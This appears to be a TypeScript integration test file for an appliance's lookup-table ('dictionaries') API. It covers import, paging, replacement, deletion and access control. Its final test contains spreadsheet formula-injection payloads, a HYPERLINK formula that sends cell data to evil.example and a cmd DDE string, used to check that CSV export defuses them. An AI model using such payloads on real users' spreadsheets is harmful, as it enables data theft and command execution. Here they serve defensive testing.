// Dictionaries (match()'s lookup tables) over real HTTP against a real appliance: definitions in
// the SQLite file, rows in the embedded engine. Create, fill by JSON and CSV, browse, replace,
// delete, and who may do each.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { ADMIN_PASSWORD, Client, makeUser, signIn, startTestAppliance, type TestAppliance } from '../support/appliance.ts';
import { createApiKey, createFractal, credentialClient, expectError, expectOk, grant, readMetadataTable, unknownId, UUID_RE } from '../support/api.ts';
import { waitFor } from '../support/wait.ts';

interface Dict {
  id: string;
  name: string;
  description: string;
  fractal_id: string | null;
  prism_id: string | null;
  is_global: boolean;
  columns: string[];
  key_columns: string[];
  row_count: number;
  created_by: string;
  created_at: string;
  updated_at: string;
}
type Ref = { id: string; name: string };

let app: TestAppliance;
let admin: Client;
/** Analyst on alpha, viewer on beta, nothing on hidden. */
let anna: Client;
let alpha: Ref, beta: Ref, hidden: Ref;

before(async () => {
  app = await startTestAppliance();
  admin = await signIn(app.url, 'admin', ADMIN_PASSWORD);
  alpha = await createFractal(admin, 'dict-alpha');
  beta = await createFractal(admin, 'dict-beta');
  hidden = await createFractal(admin, 'dict-hidden');
  anna = await makeUser(admin, 'anna');
  await grant(admin, alpha.id, { username: 'anna' }, 'analyst');
  await grant(admin, beta.id, { username: 'anna' }, 'viewer');
});
after(async () => {
  await app?.dispose();
});

const csv = { 'content-type': 'text/csv' };
async function newDict(by: Client, body: Record<string, unknown>): Promise<Dict> {
  return expectOk<Dict>(await by.post('/api/v1/dictionaries', body), 201);
}
async function rowsOf(by: Client, id: string, q = ''): Promise<{ rows: Array<Record<string, string>>; total: number }> {
  const r = await by.get(`/api/v1/dictionaries/${id}/rows${q}`);
  return { rows: expectOk(r), total: Number(r.headers.get('x-total-count')) };
}
/** Rows the engine holds for a dictionary, of any generation, tombstones included. */
async function engineRows(id: string): Promise<number> {
  const ch = app.context.ch;
  const rs = await ch.client.query({
    query: `SELECT count() AS n FROM ${ch.table('dictionary_rows')} WHERE dictionary_id = {id:UUID}`,
    query_params: { id },
    format: 'JSONEachRow',
  });
  return Number(((await rs.json()) as Array<{ n: string }>)[0]!.n);
}
/** Waits for the engine's background removal of unreadable rows. */
async function engineRowsBecome(id: string, n: number): Promise<void> {
  await waitFor(`${n} engine rows`, async () => (await engineRows(id)) === n).catch(() => undefined); // reported below
  assert.equal(await engineRows(id), n);
}
async function importCsv(by: Client, id: string, text: string, q = '') {
  return by.post(`/api/v1/dictionaries/${id}/import${q}`, text, csv);
}

describe('a dictionary from creation to deletion', () => {
  test('an analyst creates one in their fractal, fills it from CSV, browses, searches and exports it', async () => {
    const d = await newDict(anna, { name: 'threat_intel', description: 'bad addresses', columns: ['ip', 'threat_score', 'category'], fractal_id: alpha.id });
    assert.match(d.id, UUID_RE);
    assert.deepEqual(
      { ...d, id: '', created_at: '', updated_at: '' },
      {
        id: '',
        name: 'threat_intel',
        description: 'bad addresses',
        fractal_id: alpha.id,
        prism_id: null,
        is_global: false,
        columns: ['ip', 'threat_score', 'category'],
        key_columns: ['ip'],
        row_count: 0,
        created_by: 'anna',
        created_at: '',
        updated_at: '',
      },
    );
    assert.equal(readMetadataTable(app, 'dictionaries', 'id = ?', [d.id]).length, 1, 'the definition is in the SQLite file');

    const text = '\uFEFFip,threat_score,category\r\n10.0.0.5,90,c2\r\n10.0.0.9,40,"scanner, noisy"\r\n192.168.1.1,75,"said ""hi""\nand left"\r\n';
    const written = expectOk(await importCsv(anna, d.id, text));
    assert.deepEqual(written, { written: 3, row_count: 3 });

    const page = await rowsOf(anna, d.id);
    assert.equal(page.total, 3);
    assert.deepEqual(page.rows, [
      { ip: '10.0.0.5', threat_score: '90', category: 'c2' },
      { ip: '10.0.0.9', threat_score: '40', category: 'scanner, noisy' },
      { ip: '192.168.1.1', threat_score: '75', category: 'said "hi"\nand left' },
    ]);
    const found = await rowsOf(anna, d.id, '?search=SCANNER');
    assert.deepEqual(found.rows.map((r) => r.ip), ['10.0.0.9']);
    assert.equal(found.total, 1);
    const second = await rowsOf(anna, d.id, '?limit=1&offset=1');
    assert.deepEqual(second.rows.map((r) => r.ip), ['10.0.0.9']);
    assert.equal(second.total, 3, 'the total counts rows before paging');

    const exported = await anna.get(`/api/v1/dictionaries/${d.id}/export`);
    assert.equal(exported.status, 200);
    assert.match(exported.headers.get('content-type') ?? '', /^text\/csv/);
    assert.equal(exported.body, 'ip,threat_score,category\r\n10.0.0.5,90,c2\r\n10.0.0.9,40,"scanner, noisy"\r\n192.168.1.1,75,"said ""hi""\nand left"\r\n');

    const listed = expectOk<Dict[]>(await anna.get(`/api/v1/dictionaries?fractal_id=${alpha.id}`));
    assert.deepEqual(listed.map((x) => [x.name, x.row_count]), [['threat_intel', 3]]);
  });

  test('JSON rows add and update by primary key in order, a left-out column keeping its value; replace swaps every row', async () => {
    const d = await newDict(anna, { name: 'owners', columns: ['host', 'owner', 'team'], fractal_id: alpha.id });
    let w = expectOk(
      await anna.post(`/api/v1/dictionaries/${d.id}/rows`, {
        rows: [
          { host: 'web-1', owner: 'kim', team: 'web' },
          { host: 'db-1', owner: 'lee', team: 3 },
          { host: 'web-1', owner: 'kai' },
        ],
      }),
    );
    assert.deepEqual(w, { written: 3, row_count: 2 });
    assert.deepEqual((await rowsOf(anna, d.id)).rows, [
      { host: 'db-1', owner: 'lee', team: '3' },
      { host: 'web-1', owner: 'kai', team: 'web' },
    ]);
    expectOk(await anna.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: [{ host: 'db-1', team: 'dba' }, { host: 'new-1' }] }));
    assert.deepEqual((await rowsOf(anna, d.id)).rows, [
      { host: 'db-1', owner: 'lee', team: 'dba' },
      { host: 'new-1', owner: '', team: '' },
      { host: 'web-1', owner: 'kai', team: 'web' },
    ]);
    expectOk(await anna.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: [{ host: 'db-1', owner: null }] }));
    assert.deepEqual((await rowsOf(anna, d.id)).rows[0], { host: 'db-1', owner: '', team: 'dba' }, 'null clears a value');
    w = expectOk(await anna.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: [{ host: 'app-1', owner: 'sam', team: 'app' }], replace: true }));
    assert.deepEqual(w, { written: 1, row_count: 1 });
    assert.deepEqual((await rowsOf(anna, d.id)).rows, [{ host: 'app-1', owner: 'sam', team: 'app' }]);
    await engineRowsBecome(d.id, 1); // the replaced rows are removed, not only hidden

    const del = expectOk(await anna.del(`/api/v1/dictionaries/${d.id}/rows/${encodeURIComponent('app-1')}`));
    assert.deepEqual(del, { deleted: true, row_count: 0 });
    expectError(await anna.del(`/api/v1/dictionaries/${d.id}/rows/app-1`), 404, 'app-1');
    assert.equal((await rowsOf(anna, d.id)).total, 0);
  });

  test('concurrent replaces leave one whole row set, never a mix, while another dictionary is deleted', async () => {
    const d = await newDict(anna, { name: 'raced', columns: ['k', 'src'], fractal_id: alpha.id });
    const other = await newDict(anna, { name: 'raced_other', columns: ['k'], fractal_id: alpha.id });
    const set = (src: string) => Array.from({ length: 50 }, (_, i) => ({ k: `${src}${i}`, src }));
    const answers = await Promise.all([
      anna.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: set('a'), replace: true }),
      anna.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: set('b'), replace: true }),
      anna.del(`/api/v1/dictionaries/${other.id}`),
      anna.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: set('c'), replace: true }),
    ]);
    for (const a of answers) expectOk(a);
    const { rows, total } = await rowsOf(anna, d.id, '?limit=1000');
    assert.equal(total, 50);
    assert.equal(new Set(rows.map((r) => r.src)).size, 1, `one replace's rows only, got ${JSON.stringify(rows.slice(0, 3))}…`);
    await engineRowsBecome(other.id, 0);
    assert.equal((await rowsOf(anna, d.id, '?limit=1000')).total, 50, 'the purge kept the live rows');
  });

  test('CSV with new columns is refused unless add_columns=true, which adds them to the definition', async () => {
    const d = await newDict(anna, { name: 'assets', columns: ['host', 'owner'], fractal_id: alpha.id });
    expectError(await importCsv(anna, d.id, 'host,owner,site\nweb-1,kim,ams\n'), 400, '"site"');
    expectOk(await importCsv(anna, d.id, 'host,owner\nweb-1,kim\ndb-1,lee\n'));
    const w = expectOk(await importCsv(anna, d.id, 'host,site\nweb-1,ams\n', '?add_columns=true'));
    assert.equal(w.row_count, 2);
    const got = expectOk<Dict>(await anna.get(`/api/v1/dictionaries/${d.id}`));
    assert.deepEqual(got.columns, ['host', 'owner', 'site']);
    assert.deepEqual((await rowsOf(anna, d.id)).rows, [
      { host: 'db-1', owner: 'lee', site: '' },
      { host: 'web-1', owner: 'kim', site: 'ams' },
    ]);
  });

  test('renaming, adding a key column and deleting; the primary key column cannot change', async () => {
    const d = await newDict(anna, { name: 'users_map', columns: ['user', 'email', 'dept'], fractal_id: alpha.id });
    const u = expectOk<Dict>(await anna.put(`/api/v1/dictionaries/${d.id}`, { name: 'people', key_columns: ['user', 'email'] }));
    assert.equal(u.name, 'people');
    assert.deepEqual(u.key_columns, ['user', 'email']);
    expectError(await anna.put(`/api/v1/dictionaries/${d.id}`, { key_columns: ['email'] }), 400, '"user"', 'cannot change');
    expectOk(await anna.del(`/api/v1/dictionaries/${d.id}`));
    expectError(await anna.get(`/api/v1/dictionaries/${d.id}`), 404, d.id);
    assert.equal(readMetadataTable(app, 'dictionaries', 'id = ?', [d.id]).length, 0);
  });

  test('deleting a dictionary removes its rows from the engine', async () => {
    const d = await newDict(anna, { name: 'short_lived', columns: ['k', 'v'], fractal_id: alpha.id });
    expectOk(await anna.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: [{ k: '1', v: 'a' }, { k: '2', v: 'b' }] }));
    assert.equal(await engineRows(d.id), 2);
    expectOk(await anna.del(`/api/v1/dictionaries/${d.id}`));
    await engineRowsBecome(d.id, 0);
  });
});

describe('bad input gets a sentence naming the problem', () => {
  test('names, columns and keys', async () => {
    expectError(await anna.post('/api/v1/dictionaries', { name: 'bad name!', columns: ['a'], fractal_id: alpha.id }), 400, '"name"');
    expectError(await anna.post('/api/v1/dictionaries', { name: 'empty', columns: [], fractal_id: alpha.id }), 400, '"columns"');
    expectError(await anna.post('/api/v1/dictionaries', { name: 'dup', columns: ['a', 'a'], fractal_id: alpha.id }), 400, '"a"');
    expectError(await anna.post('/api/v1/dictionaries', { name: 'sp', columns: ['has space'], fractal_id: alpha.id }), 400, '"has space"');
    expectError(await anna.post('/api/v1/dictionaries', { name: 'k', columns: ['a'], key_columns: ['b'], fractal_id: alpha.id }), 400, '"b"');
    await newDict(anna, { name: 'Twice', columns: ['a'], fractal_id: alpha.id });
    expectError(await anna.post('/api/v1/dictionaries', { name: 'twice', columns: ['a'], fractal_id: alpha.id }), 409, 'twice');
    // The same name in another scope is another dictionary.
    await newDict(admin, { name: 'twice', columns: ['a'], fractal_id: beta.id });
  });

  test('rows: a missing key, an unknown column, a nested value, malformed CSV', async () => {
    const d = await newDict(anna, { name: 'rowcheck', columns: ['k', 'v'], fractal_id: alpha.id });
    expectError(await anna.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: [{ v: 'x' }] }), 400, 'rows[0]', '"k"');
    expectError(await anna.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: [{ k: '1' }, { k: '2', w: 'x' }] }), 400, 'rows[1]', '"w"');
    expectError(await anna.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: [{ k: '1', v: { a: 1 } }] }), 400, '"v"');
    expectError(await importCsv(anna, d.id, 'v\nx\n'), 400, 'key column "k"');
    expectError(await importCsv(anna, d.id, 'k,v\n1,"open\n'), 400, 'line 2', 'never closed');
    expectError(await importCsv(anna, d.id, 'k,v\n1,2,3\n'), 400, 'row 2', '3 fields');
    expectError(await importCsv(anna, d.id, ''), 400, 'empty');
    expectError(await importCsv(anna, d.id, 'k,v\n1,2\n', '?replace=maybe'), 400, '"replace"');
    assert.equal((await rowsOf(anna, d.id)).total, 0, 'nothing refused was written');
    // The service keeps serving.
    assert.equal((await anna.get(`/api/v1/dictionaries/${d.id}`)).status, 200);
  });
});

describe('who may read and change dictionaries', () => {
  test('a viewer reads but cannot change; no role means the dictionary does not exist', async () => {
    const inBeta = await newDict(admin, { name: 'beta_only', columns: ['k', 'v'], fractal_id: beta.id });
    const inHidden = await newDict(admin, { name: 'secret', columns: ['k'], fractal_id: hidden.id });
    expectOk(await anna.get(`/api/v1/dictionaries/${inBeta.id}`));
    expectError(await anna.post(`/api/v1/dictionaries/${inBeta.id}/rows`, { rows: [{ k: '1' }] }), 403, 'analyst');
    expectError(await anna.post('/api/v1/dictionaries', { name: 'nope', columns: ['a'], fractal_id: beta.id }), 403, 'analyst');
    expectError(await anna.get(`/api/v1/dictionaries/${inHidden.id}`), 404, inHidden.id);
    expectError(await anna.del(`/api/v1/dictionaries/${inHidden.id}`), 404, inHidden.id);
    expectError(await anna.get(`/api/v1/dictionaries?fractal_id=${hidden.id}`), 404);
    expectError(await anna.get(`/api/v1/dictionaries/${unknownId()}`), 404);
  });

  test('global dictionaries are listed in every scope and changed only by global admins', async () => {
    const g = await newDict(admin, { name: 'global_tlds', columns: ['tld', 'risk'], is_global: true });
    assert.equal(g.is_global, true);
    expectError(await anna.post('/api/v1/dictionaries', { name: 'g2', columns: ['a'], is_global: true }), 403, 'administrators');
    expectError(await anna.post(`/api/v1/dictionaries/${g.id}/rows`, { rows: [{ tld: 'zip' }] }), 403, 'administrators');
    const inAlpha = expectOk<Dict[]>(await anna.get(`/api/v1/dictionaries?fractal_id=${alpha.id}`)).map((d) => d.name);
    const inBeta = expectOk<Dict[]>(await anna.get(`/api/v1/dictionaries?fractal_id=${beta.id}`)).map((d) => d.name);
    assert.ok(inAlpha.includes('global_tlds') && inBeta.includes('global_tlds'));
    assert.ok(!inBeta.includes('threat_intel'), 'a fractal lists only its own and the global ones');
    assert.equal(inAlpha.at(-1), 'global_tlds', 'own dictionaries come first');
  });

  test('API keys: query reads, alert_manage changes', async () => {
    const reader = await createApiKey(admin, `/api/v1/fractals/${alpha.id}`, { name: 'dict-reader', permissions: { query: true } });
    const manager = await createApiKey(admin, `/api/v1/fractals/${alpha.id}`, { name: 'dict-manager', permissions: { query: true, alert_manage: true } });
    const r = credentialClient(app.url, reader.key);
    const m = credentialClient(app.url, manager.key);
    const d = await newDict(m, { name: 'from_key', columns: ['k', 'v'], fractal_id: alpha.id });
    assert.equal(d.created_by, 'api key dict-manager');
    expectOk(await m.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: [{ k: '1', v: 'one' }] }));
    assert.equal((await rowsOf(r, d.id)).total, 1);
    expectError(await r.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: [{ k: '2' }] }), 403, 'alert_manage');
    expectError(await r.get(`/api/v1/dictionaries?fractal_id=${beta.id}`), 404);
  });

  test('a global dictionary is read by an API key only with its query permission', async () => {
    const g = await newDict(admin, { name: 'global_for_keys', columns: ['k'], is_global: true });
    expectOk(await admin.post(`/api/v1/dictionaries/${g.id}/rows`, { rows: [{ k: 'secret-ish' }] }));
    const noQuery = await createApiKey(admin, `/api/v1/fractals/${alpha.id}`, { name: 'dict-no-query', permissions: { query: false, comment: true } });
    const withQuery = await createApiKey(admin, `/api/v1/fractals/${alpha.id}`, { name: 'dict-with-query', permissions: { query: true } });
    const n = credentialClient(app.url, noQuery.key);
    for (const path of [`/api/v1/dictionaries/${g.id}`, `/api/v1/dictionaries/${g.id}/rows`, `/api/v1/dictionaries/${g.id}/export`]) {
      expectError(await n.get(path), 403, 'query');
    }
    assert.equal((await rowsOf(credentialClient(app.url, withQuery.key), g.id)).total, 1);
  });

  test('an export never hands a spreadsheet a formula: cells starting with = + - @ are written as text', async () => {
    const d = await newDict(admin, { name: 'formulas', columns: ['k', 'v'], fractal_id: alpha.id });
    const rows = [
      { k: '1', v: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
      { k: '2', v: '+1+cmd|/C calc!A0' },
      { k: '3', v: '-2+3' },
      { k: '4', v: '@SUM(1)' },
      { k: '5', v: 'plain = text' },
    ];
    expectOk(await admin.post(`/api/v1/dictionaries/${d.id}/rows`, { rows }));
    const text = (await admin.get(`/api/v1/dictionaries/${d.id}/export`)).body as string;
    assert.equal(
      text,
      'k,v\r\n1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\r\n2,\'+1+cmd|/C calc!A0\r\n3,\'-2+3\r\n4,\'@SUM(1)\r\n5,plain = text\r\n',
    );
    // What is stored is unchanged: only the file written for spreadsheets carries the quote.
    const stored = (await rowsOf(admin, d.id)).rows.map((r) => `${r.k}:${r.v}`).sort();
    assert.deepEqual(stored, rows.map((r) => `${r.k}:${r.v}`).sort());
  });
});
